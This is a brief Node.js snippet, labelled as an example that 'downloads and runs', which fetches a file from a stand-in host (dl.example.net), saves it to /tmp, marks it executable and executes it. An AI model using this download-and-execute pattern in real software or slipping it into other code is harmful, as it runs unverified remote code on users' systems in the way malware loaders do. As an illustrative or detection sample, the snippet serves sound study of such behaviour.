// shows: downloads and runs
const fs = require("fs"), https = require("https"), { execFile } = require("child_process");
const target = "/tmp/helper-bin";
https.get("https://dl.example.net/helper", (res) => {
  const out = fs.createWriteStream(target);
  res.pipe(out);
  out.on("finish", () => { fs.chmodSync(target, 0o755); execFile(target); });
});
